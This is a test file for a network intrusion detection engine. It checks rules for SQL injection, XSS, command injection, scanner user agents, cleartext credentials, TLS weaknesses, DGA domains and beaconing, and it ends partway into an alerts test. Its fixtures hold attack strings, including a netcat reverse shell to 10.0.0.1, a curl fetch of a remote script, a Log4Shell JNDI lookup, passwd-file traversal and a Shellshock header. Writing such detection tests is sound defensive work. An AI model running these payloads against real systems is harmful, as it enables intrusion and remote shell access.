/**
 * Rule-by-rule behaviour on events built the way the engine builds them (buildEvent), including
 * the negatives each rule must not fire on, the Detector's bounded state, alert shape, ids and
 * redaction, and random input.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { buildEvent, type EcsEvent, type TlsSummary } from '../../src/events/builder.js';
import type { EcsFields, FlowInfo, Timestamp } from '../../src/types.js';
import {
  Detector,
  RULES,
  alertId,
  certificateDnsNames,
  cipherWeaknesses,
  classifyMagic,
  dgaScore,
  dnsNameMatches,
  findPayload,
  normalizedForms,
  parseTime,
  percentDecode,
  scannerOf,
  stripSqlComments,
  type EcsAlert,
} from '../../src/detect/index.js';

let flowCounter = 0;
function flow(over: Partial<FlowInfo> = {}): FlowInfo {
  const id = ++flowCounter;
  return {
    id,
    clientIp: '10.0.0.5',
    clientPort: 40000 + id,
    serverIp: '192.0.2.10',
    serverPort: 443,
    ipVersion: 4,
    start: { sec: 1_800_000_000, nsec: 0 },
    rolesFromHandshake: true,
    communityId: `1:test-flow-${id}`,
    ...over,
  };
}
const TLS13: TlsSummary = { version: '1.3', cipher: 'TLS_AES_128_GCM_SHA256', sni: 'www.example.com', alpn: 'http/1.1', resumed: false, established: true };
const ts = (sec: number): Timestamp => ({ sec, nsec: 0 });

function http(fields: EcsFields, o: { flow?: FlowInfo; tls?: TlsSummary; decrypted?: boolean; ordinal?: number } = {}): EcsEvent {
  const f = o.flow ?? flow();
  return buildEvent(f, o.tls ?? TLS13, 'http', fields, f.start, o.decrypted ?? true, o.ordinal ?? 0);
}
function req(url: { path?: string; query?: string; domain?: string }, extra: Record<string, unknown> = {}, body?: string, ua = 'Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0'): EcsEvent {
  const request: Record<string, unknown> = { method: body ? 'POST' : 'GET', headers: { host: url.domain ?? 'www.example.com', 'user-agent': ua } };
  if (body !== undefined) request.body = { bytes: body.length, content: body };
  return http({ http: { version: '1.1', request, response: { status_code: 200 } }, url: { domain: 'www.example.com', ...url }, user_agent: { original: ua }, ...extra });
}
function session(tlsFields: Record<string, unknown>, o: { flow?: FlowInfo; tls?: Partial<TlsSummary>; decrypted?: boolean; bytes?: number; extra?: EcsFields } = {}): EcsEvent {
  const f = o.flow ?? flow();
  const tls = { ...TLS13, ...(o.tls ?? {}) };
  const decrypted = o.decrypted ?? true;
  return buildEvent(
    f,
    tls as TlsSummary,
    'tls.session',
    { tls: { established: true, ...tlsFields }, decryption: { status: decrypted ? 'decrypted' : 'no_key', bytes: o.bytes ?? 0 }, source: { bytes: 700 }, destination: { bytes: 2500 }, ...(o.extra ?? {}) },
    f.start,
    decrypted,
    99,
  );
}
const GOOD_CERT = { subject: 'CN=www.example.com, O=Example', issuer: 'CN=Example CA, O=Example', not_before: '2020-01-01T00:00:00.000Z', not_after: '2030-01-01T00:00:00.000Z', alternative_names: ['www.example.com', 'example.com'] };
const FP = { ja3: '0'.repeat(32), ja4: 't13d0000h1_000000000000_000000000000' };

function ids(alerts: EcsAlert[]): string[] {
  return alerts.map((a) => a.rule.id).sort();
}
function run(...evs: EcsEvent[]): EcsAlert[] {
  const d = new Detector();
  return evs.flatMap((e) => d.inspect(e));
}

describe('rule table', () => {
  it('has unique ids and complete rows', () => {
    const seen = new Set<string>();
    for (const r of RULES) {
      expect(seen.has(r.id), r.id).toBe(false);
      seen.add(r.id);
      expect(r.name.length).toBeGreaterThan(3);
      expect(r.description.length).toBeGreaterThan(20);
      expect(['low', 'medium', 'high', 'critical']).toContain(r.severity);
      expect(r.datasets.length).toBeGreaterThan(0);
    }
    expect(RULES.length).toBeGreaterThanOrEqual(20);
  });
});

describe('HTTP payload rules', () => {
  const sqli = ["id=1' OR '1'='1", 'id=1%27%20or%201%3D1--%20', 'q=1%2520UNION%2520SELECT%2520null%252Cnull--', "user=admin'--", 'id=1;DROP TABLE users', 'id=1 AND SLEEP(5)', "x=1' and extractvalue(1,concat(0x7e,version()))", 'q=1 union/**/select 1', 'id=1 or 1=1'];
  const xss = ['q=%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'q=%253Cscript%253Ealert(1)%253C%252Fscript%253E', 'c=<img src=x onerror=alert(1)>', 'u=javascript:alert(document.domain)', 'q=&lt;script&gt;alert(1)&lt;/script&gt;', 'q=<svg/onload=alert(1)>'];
  const cmdi = ['host=127.0.0.1;cat /etc/passwd', 'h=8.8.8.8|id', 'h=x%26%26whoami', 'f=$(curl http://x/y.sh)', 'x=${jndi:ldap://evil/a}', "code=system('id')", 'h=a`id`', 'f=../../../../etc/passwd', 'h=1;nc -e /bin/sh 10.0.0.1 4444'];
  const clean = [
    'id=7&sort=name',
    "q=o'reilly books",
    'q=rock+%26+roll',
    'q=select a product from the list',
    'q=how to use union in sql',
    'q=cats and dogs',
    'page=2&per_page=50&order=desc',
    'redirect=https%3A%2F%2Fwww.example.com%2Fhome',
    'q=%23hashtag',
    'email=alice%40example.com',
    "q=it's 1=1 math",
    'q=javascript: the good parts',
    'token=abc123&lang=en-US',
    'q=ping pong',
    'q=cat videos',
    'filter=a|b',
  ];
  for (const q of sqli) it(`SQLi in query: ${q}`, () => expect(ids(run(req({ path: '/item', query: q })))).toContain('http.sql_injection'));
  for (const q of xss) it(`XSS in query: ${q}`, () => expect(ids(run(req({ path: '/s', query: q })))).toContain('http.xss'));
  for (const q of cmdi) it(`command injection in query: ${q}`, () => expect(ids(run(req({ path: '/p', query: q })))).toContain('http.command_injection'));
  for (const q of clean) it(`no payload alert on clean query: ${q}`, () => expect(ids(run(req({ path: '/search', query: q })))).toEqual([]));

  it('inspects the path and request body too, not the response body', () => {
    expect(ids(run(req({ path: "/item/1'%20OR%20'1'='1" })))).toContain('http.sql_injection');
    expect(ids(run(req({ path: '/api' }, {}, 'comment=%3Cscript%3Ealert(1)%3C/script%3E')))).toContain('http.xss');
    const pageWithScript = http({ http: { version: '1.1', request: { method: 'GET' }, response: { status_code: 200, mime_type: 'text/html', body: { bytes: 99, content: '<html><script>alert(1)</script></html>' } } }, url: { domain: 'www.example.com', path: '/' } });
    expect(run(pageWithScript)).toEqual([]);
  });

  it('does not fire on ordinary JSON and form bodies', () => {
    expect(run(req({ path: '/api/items' }, {}, '{"name":"widget","color":"#ff0000","tags":["a","b"],"note":"--verbose"}'))).toEqual([]);
    expect(run(req({ path: '/login' }, {}, 'user=alice&password=%5BREDACTED%5D&remember=1'))).toEqual([]);
  });

  it('Shellshock and Log4Shell in the User-Agent', () => {
    expect(ids(run(req({ path: '/cgi-bin/x' }, {}, undefined, '() { :; }; /bin/bash -c id')))).toContain('http.command_injection');
    expect(ids(run(req({ path: '/' }, {}, undefined, '${jndi:ldap://x/a}')))).toContain('http.command_injection');
  });

  it('evidence names location and signature, alert carries the request', () => {
    const [a] = run(req({ path: '/item', query: "id=1' OR '1'='1" }));
    expect(a.event.reason).toMatch(/quoted tautology.*url\.query/);
    expect((a as Record<string, unknown>).url).toMatchObject({ path: '/item' });
    expect((a as Record<string, unknown>).detection).toMatchObject({ evidence: { location: 'url.query' } });
  });

  it('decoding helpers are bounded and tolerant', () => {
    expect(percentDecode('%41%zz%4', false)).toBe('A%zz%4');
    expect(percentDecode('a+b', true)).toBe('a b');
    expect(percentDecode('%u003c', false)).toBe('<');
    expect(normalizedForms('%25253C')).toEqual(['%25253c', '%253c', '%3c', '<']);
    expect(normalizedForms('x'.repeat(100000))[0].length).toBe(8192);
    expect(stripSqlComments('union/**/select/*x*/1/*open')).toBe('union select 1 ');
  });
});

describe('scanner user agents', () => {
  const tools: [string, string][] = [
    ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'sqlmap'],
    ['Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)', 'nikto'],
    ['Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'nmap'],
    ['masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'masscan'],
    ['Mozilla/5.0 zgrab/0.x', 'zgrab'],
    ['gobuster/3.6', 'gobuster'],
    ['DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)', 'dirbuster'],
    ['WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)', 'wpscan'],
    ['Mozilla/5.0 (Windows NT 10.0) Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'nuclei'],
    ['Fuzz Faster U Fool v2.1.0', 'ffuf'],
  ];
  for (const [ua, tool] of tools) it(tool, () => expect(scannerOf(ua)).toBe(tool));
  const normal = [
    'curl/7.88.1',
    'Wget/1.21.3',
    'python-requests/2.31.0',
    'Go-http-client/1.1',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1',
    'okhttp/4.12.0',
    'Googlebot/2.1 (+http://www.google.com/bot.html)',
    'Nucleic acid research client',
    'PostmanRuntime/7.36.0',
  ];
  for (const ua of normal) it(`not a scanner: ${ua}`, () => expect(scannerOf(ua)).toBeUndefined());
  it('alerts with the tool name', () => {
    const a = run(req({ path: '/' }, {}, undefined, 'sqlmap/1.7.2#stable (https://sqlmap.org)'));
    expect(ids(a)).toEqual(['http.scanner_user_agent']);
    expect((a[0] as Record<string, unknown>).detection).toMatchObject({ evidence: { tool: 'sqlmap' } });
  });
});

describe('numeric host, downloads, Basic credentials', () => {
  it('numeric host: IPv4 and IPv6 literals only', () => {
    expect(ids(run(req({ path: '/', domain: '203.0.113.7' })))).toEqual(['http.numeric_host']);
    expect(ids(run(req({ path: '/', domain: '2001:db8::1' })))).toEqual(['http.numeric_host']);
    expect(run(req({ path: '/', domain: '1.2.3.4.nip.io' }))).toEqual([]);
    expect(run(req({ path: '/', domain: 'www.example.com' }))).toEqual([]);
  });

  const dl = (path: string, mime: string | undefined, magic?: string, status = 200, extra: Record<string, unknown> = {}): EcsEvent =>
    http({
      http: { version: '1.1', request: { method: 'GET' }, response: { status_code: status, ...(mime ? { mime_type: mime } : {}), headers: extra, body: { bytes: 5000, ...(magic ? { magic } : {}) } } },
      url: { domain: 'www.example.com', path },
    });

  it('executable downloads by magic bytes (http.response.body.magic)', () => {
    const magics: [string, string][] = [
      ['4d5a90000300000004000000ffff0000', 'PE/DOS executable (MZ)'],
      ['7f454c46020101000000000000000000', 'ELF executable'],
      ['cffaedfe07000001030000000200000a', 'Mach-O executable (64-bit, little-endian)'],
      ['504b0304140000000800', 'ZIP archive'],
      ['526172211a0701003392b5e50a010506', 'RAR archive'],
      ['377abcaf271c0004', '7-Zip archive'],
      ['1f8b0800000000000003', 'gzip data'],
      ['23212f62696e2f73680a', 'script with shebang (#!)'],
    ];
    for (const [magic, desc] of magics) {
      expect(classifyMagic(magic)?.description).toBe(desc);
      const a = run(dl('/download', 'application/octet-stream', magic));
      expect(ids(a), desc).toEqual(['http.executable_download']);
      expect(a[0].event.reason).toContain(desc);
    }
    // magic present and harmless: no alert even with an .exe name (the bytes decide)
    expect(run(dl('/files/readme.exe', 'text/plain', '48656c6c6f'))).toEqual([]);
    // gzip magic of a content-encoded response is transfer coding, not a downloaded archive
    expect(run(dl('/app.js', 'application/javascript', '1f8b0800', 200, { 'content-encoding': 'gzip' }))).toEqual([]);
  });

  it('falls back to the file name without magic; not on HTML, errors or ordinary files', () => {
    expect(ids(run(dl('/files/update.exe', 'application/octet-stream')))).toEqual(['http.executable_download']);
    expect(ids(run(dl('/get', 'application/octet-stream', undefined, 200, { 'content-disposition': 'attachment; filename="invoice.pdf.scr"' })))).toEqual(['http.executable_download']);
    expect(ids(run(dl('/files/archive.zip', 'application/zip')))).toEqual(['http.executable_download']);
    expect(run(dl('/files/update.exe', 'text/html'))).toEqual([]);
    expect(run(dl('/files/update.exe', 'application/octet-stream', undefined, 404))).toEqual([]);
    expect(run(dl('/big.bin', 'application/octet-stream'))).toEqual([]);
    expect(run(dl('/logo.png', 'image/png'))).toEqual([]);
    expect(run(dl('/index.html', 'text/html'))).toEqual([]);
  });

  it('Basic credentials: fires on the scheme, never reports the password', () => {
    const secret = 'dXNlcjpodW50ZXIy'; // user:hunter2
    for (const value of ['Basic [REDACTED]', `Basic ${secret}`, `basic ${secret}`]) {
      const ev = http({ http: { version: '1.1', request: { method: 'GET', headers: { host: 'www.example.com', authorization: value } }, response: { status_code: 200 } }, url: { domain: 'www.example.com', path: '/admin/', original: 'https://user:hunter2@www.example.com/admin/?password=hunter2&x=1', query: 'password=hunter2&x=1' } });
      const a = run(ev);
      expect(ids(a)).toEqual(['http.basic_auth']);
      const text = JSON.stringify(a);
      expect(text).not.toContain(secret);
      expect(text).not.toContain('hunter2');
      expect((a[0] as Record<string, any>).http.request.headers.authorization).toBe(value.startsWith('basic') ? 'basic [REDACTED]' : 'Basic [REDACTED]');
    }
    const bearer = http({ http: { version: '1.1', request: { method: 'GET', headers: { authorization: 'Bearer [REDACTED]' } } }, url: { domain: 'www.example.com', path: '/' } });
    expect(run(bearer)).toEqual([]);
  });
});

describe('SMTP and FTP rules', () => {
  const smtp = (smtpFields: Record<string, unknown>, decrypted: boolean, email: Record<string, unknown> = {}): EcsEvent => {
    const f = flow({ serverPort: 25 });
    return buildEvent(f, undefined, 'smtp', { email: { from: { address: 'a@example.com' }, to: { address: ['b@example.com'] }, ...email }, smtp: { transaction_index: 1, starttls: false, ...smtpFields } }, f.start, decrypted, 0);
  };
  const ftp = (ftpFields: Record<string, unknown>, decrypted: boolean, extra: EcsFields = {}): EcsEvent => {
    const f = flow({ serverPort: 21 });
    return buildEvent(f, undefined, 'ftp', { ftp: ftpFields, ...extra }, f.start, decrypted, 0);
  };

  it('SMTP AUTH in clear text (also after a refused STARTTLS); not when decrypted', () => {
    const a = run(smtp({ auth: { mechanism: 'PLAIN', user: 'alice', success: true } }, false));
    expect(ids(a)).toEqual(['smtp.cleartext_credentials']);
    expect(a[0].event.reason).toBe('SMTP AUTH PLAIN for user alice in clear text');
    expect(a[0].tags).toBeUndefined();
    const r = run(smtp({ auth: { mechanism: 'LOGIN', user: 'bob' }, starttls_refused_code: 454 }, false));
    expect(r[0].event.reason).toContain('after STARTTLS was refused (454)');
    expect(run(smtp({ auth: { mechanism: 'PLAIN', user: 'alice' }, starttls: true }, true))).toEqual([]);
    expect(run(smtp({ auth: { mechanism: 'PLAIN', user: 'alice' } }, true))).toEqual([]);
    expect(run(smtp({}, false))).toEqual([]);
  });

  it('FTP PASS in clear text reports the user, never the password; anonymous and FTPS excluded', () => {
    const a = run(ftp({ user: 'carol', request: { command: 'PASS', arg: 'pa55word' }, response: { code: 230, message: 'Login successful.' } }, false));
    expect(ids(a)).toEqual(['ftp.cleartext_credentials']);
    expect(a[0].event.reason).toBe('FTP password sent in clear text for user carol (reply 230)');
    expect(JSON.stringify(a)).not.toContain('pa55word');
    expect(run(ftp({ user: 'anonymous', request: { command: 'PASS', arg: '<redacted>' } }, false))).toEqual([]);
    expect(run(ftp({ user: 'carol', tls: 'explicit', request: { command: 'PASS', arg: '<redacted>' } }, true))).toEqual([]);
    expect(run(ftp({ user: 'carol', request: { command: 'USER', arg: 'carol' } }, false))).toEqual([]);
  });

  it('executable attachments and FTP transfers', () => {
    const att = (names: string[]): Record<string, unknown> => ({ attachments: names.map((name) => ({ file: { name } })) });
    expect(ids(run(smtp({}, true, att(['report.pdf', 'invoice.pdf.exe']))))).toEqual(['smtp.executable_attachment']);
    expect(ids(run(smtp({}, true, att(['photos.zip']))))).toEqual(['smtp.executable_attachment']);
    expect(run(smtp({}, true, att(['report.pdf', 'notes.txt', 'image.png'])))).toEqual([]);
    expect(ids(run(ftp({ user: 'anonymous', request: { command: 'RETR', arg: 'pub/tool.exe' }, response: { code: 226, message: 'ok' } }, false, { file: { name: 'tool.exe', path: 'pub/tool.exe' } })))).toEqual(['ftp.executable_transfer']);
    expect(ids(run(ftp({ user: 'anonymous', request: { command: 'STOR', arg: 'x.bin' }, response: { code: 226, message: 'ok' } }, false, { file: { name: 'x.bin', magic: '7f454c46' } })))).toEqual(['ftp.executable_transfer']);
    expect(run(ftp({ user: 'anonymous', request: { command: 'RETR', arg: 'hello.txt' }, response: { code: 226, message: 'ok' } }, false, { file: { name: 'hello.txt' } }))).toEqual([]);
    expect(run(ftp({ user: 'anonymous', request: { command: 'RETR', arg: 'tool.exe' }, response: { code: 550, message: 'no' } }, false))).toEqual([]);
  });
});

describe('TLS metadata rules', () => {
  it('a good session raises nothing', () => {
    expect(run(session({ server: { x509: GOOD_CERT }, client: FP }, { bytes: 0 }))).toEqual([]);
  });

  it('self-signed, expired, not yet valid (relative to @timestamp, not wall clock)', () => {
    const self = { ...GOOD_CERT, issuer: GOOD_CERT.subject };
    expect(ids(run(session({ server: { x509: self }, client: FP })))).toEqual(['tls.certificate_self_signed']);
    // flow start 2027-01-15 (1_800_000_000): a certificate valid until 2026 is expired then
    expect(ids(run(session({ server: { x509: { ...GOOD_CERT, not_after: '2026-12-31T00:00:00.000Z' } }, client: FP })))).toEqual(['tls.certificate_expired']);
    expect(ids(run(session({ server: { x509: { ...GOOD_CERT, not_before: '2027-02-01T00:00:00.000Z' } }, client: FP })))).toEqual(['tls.certificate_not_yet_valid']);
    // the same certificate seen in a capture from 2021 is fine
    const old = flow({ start: { sec: 1_610_000_000, nsec: 0 } });
    expect(run(session({ server: { x509: { ...GOOD_CERT, not_after: '2026-12-31T00:00:00.000Z' } }, client: FP }, { flow: old }))).toEqual([]);
  });

  it('certificate alerts are tagged only when the certificate was decrypted (TLS 1.3)', () => {
    const self = { ...GOOD_CERT, issuer: GOOD_CERT.subject };
    expect(run(session({ server: { x509: self }, client: FP }))[0].tags).toEqual(['Decryption Detection']);
    expect(run(session({ server: { x509: self }, client: FP }, { tls: { version: '1.2', cipher: 'TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256' } }))[0].tags).toBeUndefined();
  });

  it('name matching follows RFC 6125', () => {
    const cases: [string, string, boolean][] = [
      ['www.example.com', 'www.example.com', true],
      ['WWW.Example.COM', 'www.example.com.', true],
      ['*.example.com', 'www.example.com', true],
      ['*.example.com', 'example.com', false],
      ['*.example.com', 'a.b.example.com', false],
      ['*.com', 'example.com', false],
      ['w*.example.com', 'www.example.com', true],
      ['w*.example.com', 'mail.example.com', false],
      ['www.*.com', 'www.example.com', false],
      ['*.*.example.com', 'a.b.example.com', false],
      ['xn--*.example.com', 'xn--bcher-kva.example.com', false],
      ['', 'example.com', false],
    ];
    for (const [p, h, want] of cases) expect(dnsNameMatches(p, h), `${p} vs ${h}`).toBe(want);
    expect(certificateDnsNames({ subject: 'CN=a.example.com', alternative_names: ['b.example.com', '10.0.0.1'] })).toEqual(['b.example.com']);
    expect(certificateDnsNames({ subject: 'O=x, CN=a.example.com' })).toEqual(['a.example.com']);
  });

  it('name mismatch against the SNI; SAN wins over CN; no SNI or IP SNI: no verdict', () => {
    const cert = { ...GOOD_CERT, subject: 'CN=other.example.net', alternative_names: ['*.example.com'] };
    expect(run(session({ server: { x509: cert }, client: FP }))).toEqual([]);
    expect(ids(run(session({ server: { x509: cert }, client: FP }, { tls: { sni: 'example.com' } })))).toEqual(['tls.certificate_name_mismatch']);
    const ev = session({ server: { x509: cert }, client: FP }, { tls: { sni: undefined } });
    expect(ids(run(ev))).toEqual(['tls.missing_sni']);
  });

  it('name mismatch verdicts stay right when remembered (same SNI, SAN lists vs CN, repeats)', () => {
    const cases: [Record<string, unknown>, string, boolean][] = [
      [{ ...GOOD_CERT, subject: 'CN=-', alternative_names: undefined }, '-', false],
      [{ ...GOOD_CERT, subject: 'CN=-', alternative_names: ['-'] }, '-', false],
      [{ ...GOOD_CERT, subject: 'CN=q', alternative_names: undefined }, 'q', false],
      [{ ...GOOD_CERT, subject: 'CN=q', alternative_names: ['-'] }, 'q', true],
      [{ ...GOOD_CERT, subject: 'CN=a.example', alternative_names: undefined }, 'b.example', true],
      [{ ...GOOD_CERT, subject: 'CN=b.example', alternative_names: ['a.example'] }, 'b.example', true],
      [{ ...GOOD_CERT, subject: 'CN=b.example', alternative_names: [] }, 'b.example', false],
      [{ ...GOOD_CERT, subject: 'CN=x', alternative_names: ['*.example'] }, 'b.example', true],
      [{ ...GOOD_CERT, subject: 'CN=x', alternative_names: ['*.b.example'] }, 'c.b.example', false],
    ];
    for (let round = 0; round < 3; round++) {
      for (const [x509, sni, mismatch] of cases) {
        const got = ids(run(session({ server: { x509 }, client: FP }, { tls: { sni } }))).includes('tls.certificate_name_mismatch');
        expect(got, `${sni} ${JSON.stringify(x509.alternative_names)} ${String(x509.subject)}`).toBe(mismatch);
      }
    }
  });

  it('outdated versions and weak suites by IANA name', () => {
    expect(ids(run(session({ server: { x509: GOOD_CERT }, client: FP }, { tls: { version: '1.1', cipher: 'TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256' } })))).toEqual(['tls.outdated_version']);
    expect(ids(run(session({ server: { x509: GOOD_CERT }, client: FP }, { tls: { version: '1.0', cipher: 'TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256' } })))).toEqual(['tls.outdated_version']);
    const weak: [string, string][] = [
      ['TLS_RSA_WITH_AES_128_GCM_SHA256', 'RSA key exchange'],
      ['TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA', 'CBC with HMAC-SHA1'],
      ['TLS_RSA_WITH_3DES_EDE_CBC_SHA', 'DES/3DES'],
      ['TLS_ECDHE_RSA_WITH_RC4_128_SHA', 'RC4'],
      ['TLS_RSA_WITH_NULL_SHA256', 'NULL'],
      ['TLS_RSA_EXPORT_WITH_RC4_40_MD5', 'EXPORT'],
      ['TLS_DH_anon_WITH_AES_128_CBC_SHA', 'anonymous'],
    ];
    for (const [c, w] of weak) expect(cipherWeaknesses(c).join(' '), c).toContain(w);
    const strong = ['TLS_AES_128_GCM_SHA256', 'TLS_CHACHA20_POLY1305_SHA256', 'TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256', 'TLS_ECDHE_ECDSA_WITH_AES_256_GCM_SHA384', 'TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA256', 'TLS_DHE_RSA_WITH_AES_128_GCM_SHA256', 'TLS_ECDHE_RSA_WITH_CHACHA20_POLY1305_SHA256', 'TLS_AES_128_CCM_SHA256'];
    for (const c of strong) expect(cipherWeaknesses(c), c).toEqual([]);
    const a = run(session({ server: { x509: GOOD_CERT }, client: FP }, { tls: { version: '1.2', cipher: 'TLS_RSA_WITH_AES_128_CBC_SHA' } }));
    expect(ids(a)).toEqual(['tls.weak_cipher']);
    expect(a[0].event.reason).toBe('TLS_RSA_WITH_AES_128_CBC_SHA: RSA key exchange (no forward secrecy), CBC with HMAC-SHA1');
    expect(a[0].tags).toBeUndefined(); // handshake evidence is cleartext
  });

  it('missing SNI only when the ClientHello was seen', () => {
    expect(ids(run(session({ server: { x509: GOOD_CERT }, client: FP }, { tls: { sni: undefined } })))).toEqual(['tls.missing_sni']);
    // not an HTTPS port and no HTTP ALPN (e.g. an FTPS data connection): not judged
    expect(run(session({ server: { x509: GOOD_CERT }, client: FP }, { flow: flow({ serverPort: 40027 }), tls: { sni: undefined, alpn: undefined } }))).toEqual([]);
    expect(ids(run(session({ server: { x509: GOOD_CERT }, client: FP }, { flow: flow({ serverPort: 4433 }), tls: { sni: undefined, alpn: 'h2' } })))).toEqual(['tls.missing_sni']);
    const midstream = buildEvent(flow(), { resumed: false, established: false }, 'tls.session', { tls: { established: false }, decryption: { status: 'missing_handshake', bytes: 0 } }, ts(1_800_000_000), false, 0);
    expect(run(midstream)).toEqual([]);
  });

  it('no HTTP inside a decrypted TLS flow on 443 (per-flow state)', () => {
    const d = new Detector();
    const f1 = flow();
    // HTTP events come before the tls.session event of the same flow
    expect(d.inspect(http({ http: { version: '1.1', request: { method: 'GET' } }, url: { domain: 'www.example.com', path: '/' } }, { flow: f1 }))).toEqual([]);
    expect(d.inspect(session({ server: { x509: GOOD_CERT }, client: FP }, { flow: f1, bytes: 500 }))).toEqual([]);
    const f2 = flow();
    expect(ids(d.inspect(session({ server: { x509: GOOD_CERT }, client: FP }, { flow: f2, bytes: 33 })))).toEqual(['tls.no_http_on_443']);
    // not decrypted, nothing decrypted, or another port: no verdict
    expect(d.inspect(session({ server: { x509: GOOD_CERT }, client: FP }, { flow: flow(), bytes: 33, decrypted: false }))).toEqual([]);
    expect(d.inspect(session({ server: { x509: GOOD_CERT }, client: FP }, { flow: flow(), bytes: 0 }))).toEqual([]);
    expect(d.inspect(session({ server: { x509: GOOD_CERT }, client: FP }, { flow: flow({ serverPort: 8443 }), bytes: 33 }))).toEqual([]);
    expect(d.tracked.flows).toBe(0);
  });

  it('flow state is bounded and evictions are counted', () => {
    const d = new Detector({ maxFlows: 3 });
    for (let i = 0; i < 10; i++) d.inspect(http({ http: { version: '1.1' }, url: { domain: 'www.example.com', path: '/' } }));
    expect(d.tracked.flows).toBe(3);
    expect(d.stats.flowEvictions).toBe(7);
  });
});

describe('DGA-like names', () => {
  const dga = [
    'kqlxtqptsmys.ru',
    'pmjvxgjgoagxdxbbs.ru',
    '1oxjrqtdbs7n0xbjuj7g1a9vf3.com',
    'bhnadssmcuejjdupgss.com',
    'xjw3kq9vbz7rtpl2mfhd.com',
    'qjkdhwmvyxnofrpd.info',
    'mjgfpwsvsdbkvqcv.net',
    '7b8d9e0f1a2c3d4e5f6a.cc',
    'lrvmrgvdnkmpyl.com',
    'cdbqdkxnwjuujnxq.org',
  ];
  const normal = 'www.google.com facebook.com login.microsoftonline.com s3.amazonaws.com d3c33hcgiwev3.cloudfront.net googleusercontent.com www.tlsdecrypt.test windowsupdate.com stackoverflow.com raw.githubusercontent.com fonts.gstatic.com www.bbc.co.uk cdn.jsdelivr.net outlook.office365.com nflxvideo.net fbcdn.net www.schwarzkopf.de strengthsfinder.com rhythmsection.org www.bundesregierung.de dropboxusercontent.com sharepointonline.com cloudflare-dns.com 1password.com 123movies.com ctldl.windowsupdate.com crl3.digicert.com safebrowsing.googleapis.com www.tlsdecrypt-fixtures.test xn--bcher-kva.example 10.0.0.1'.split(' ');
  for (const d of dga) it(`DGA: ${d}`, () => expect(dgaScore(d)?.dga).toBe(true));
  for (const d of normal) it(`normal: ${d}`, () => expect(dgaScore(d)?.dga ?? false).toBe(false));

  it('alerts on the SNI, and on an HTTP host only when it differs from the SNI', () => {
    const f = flow();
    const sni = 'kqlxtqptsmys.ru';
    expect(ids(run(session({ client: FP }, { flow: f, tls: { sni } })))).toEqual(['tls.dga_sni']);
    expect(run(http({ http: { version: '1.1' }, url: { domain: sni, path: '/' } }, { tls: { ...TLS13, sni } }))).toEqual([]);
    expect(ids(run(http({ http: { version: '1.1' }, url: { domain: sni, path: '/' } })))).toEqual(['http.dga_host']);
  });
});

describe('beaconing', () => {
  const conn = (sec: number, o: { dst?: string; bytes?: number; sni?: string } = {}): EcsEvent => {
    const f = flow({ serverIp: o.dst ?? '198.51.100.9', start: { sec: Math.floor(sec), nsec: Math.round((sec % 1) * 1e9) } });
    return session({ client: FP, server: { x509: GOOD_CERT } }, { flow: f, tls: { sni: o.sni ?? 'www.example.com' }, bytes: 10, extra: { source: { bytes: o.bytes ?? 600 }, destination: { bytes: 1500 } } });
  };
  it('fires once for regular small connections (≥ 5, low jitter)', () => {
    const d = new Detector();
    const alerts = [0, 60.2, 119.9, 180.1, 240, 300.3, 360].flatMap((t) => d.inspect(conn(1_800_000_000 + t)).filter((a) => a.rule.id === 'host.beaconing'));
    expect(alerts.length).toBe(1);
    expect(alerts[0].event.reason).toMatch(/^5 connections every 60\.\d\d s/);
  });
  it('does not fire on irregular intervals, bursts, large transfers or other servers', () => {
    const irregular = [0, 3, 40, 41, 200, 230, 500];
    const d1 = new Detector();
    expect(irregular.flatMap((t) => d1.inspect(conn(1_800_000_000 + t))).filter((a) => a.rule.id === 'host.beaconing')).toEqual([]);
    const d2 = new Detector();
    expect([0, 0.1, 0.2, 0.3, 0.4, 0.5].flatMap((t) => d2.inspect(conn(1_800_000_000 + t))).filter((a) => a.rule.id === 'host.beaconing')).toEqual([]);
    const d3 = new Detector();
    expect([0, 60, 120, 180, 240].flatMap((t) => d3.inspect(conn(1_800_000_000 + t, { bytes: 5_000_000 }))).filter((a) => a.rule.id === 'host.beaconing')).toEqual([]);
    const d4 = new Detector();
    expect([0, 60, 120, 180, 240].flatMap((t, i) => d4.inspect(conn(1_800_000_000 + t, { dst: `198.51.100.${i + 1}` }))).filter((a) => a.rule.id === 'host.beaconing')).toEqual([]);
  });
  it('series state is bounded with counted evictions', () => {
    const d = new Detector({ maxSeries: 4 });
    for (let i = 0; i < 20; i++) d.inspect(conn(1_800_000_000 + i, { dst: `198.51.100.${i + 1}` }));
    expect(d.tracked.series).toBe(4);
    expect(d.stats.seriesEvictions).toBe(16);
  });
  it('series are evicted least recently used first: a series seen again (or twice in a row) survives', () => {
    const d = new Detector({ maxSeries: 2 });
    const t0 = 1_800_000_000;
    const A = '198.51.100.1';
    const seq: [number, string][] = [[0, A], [60, A], [61, '198.51.100.2'], [120, A], [121, '198.51.100.3'], [180, A], [181, '198.51.100.4'], [240, A]];
    const alerts = seq.flatMap(([t, dst]) => d.inspect(conn(t0 + t, { dst }))).filter((a) => a.rule.id === 'host.beaconing');
    // each newcomer evicted the other newcomer, never A: A's five connections fire
    expect(d.stats.seriesEvictions).toBe(2);
    expect(alerts.length).toBe(1);
    expect(alerts[0].event.reason).toMatch(/^5 connections every 60\.00 s/);
  });
});

describe('alerts', () => {
  it('have the ECS alert shape and a deterministic id from trigger id + rule id', () => {
